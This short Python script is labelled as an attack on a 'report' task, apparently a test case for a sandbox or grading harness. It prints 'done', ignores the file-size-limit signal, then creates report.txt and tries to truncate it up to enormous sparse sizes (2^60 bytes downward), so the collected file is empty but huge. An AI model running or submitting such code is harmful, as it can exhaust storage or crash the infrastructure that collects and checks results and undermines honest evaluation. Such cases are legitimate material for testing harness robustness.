# Attack: the collected file is empty and very large.
# task: report
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
print("done", flush=True)
number = os.open("report.txt", os.O_CREAT | os.O_RDWR)
for size in (1 << 60, 1 << 40, 1 << 33, 1 << 23):
    try:
        os.ftruncate(number, size)
        break
    except OSError:
        continue
